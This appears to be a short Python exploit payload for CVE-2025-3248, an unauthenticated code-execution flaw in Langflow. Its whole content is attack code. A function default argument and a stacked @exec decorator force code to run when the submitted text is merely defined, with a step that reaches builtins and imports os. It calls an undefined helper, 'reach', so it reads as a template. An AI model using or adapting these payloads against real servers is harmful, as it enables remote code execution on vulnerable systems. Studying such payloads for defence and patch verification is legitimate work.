# The payload of a service that gave a text to exec without asking who sent it.
# advisory: CVE-2025-3248 (Langflow)
def handler(x=[reach(globals(), __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__))]):
    pass


@exec
@lambda function: "reach(__import__('os'))"
def decorated():
    pass
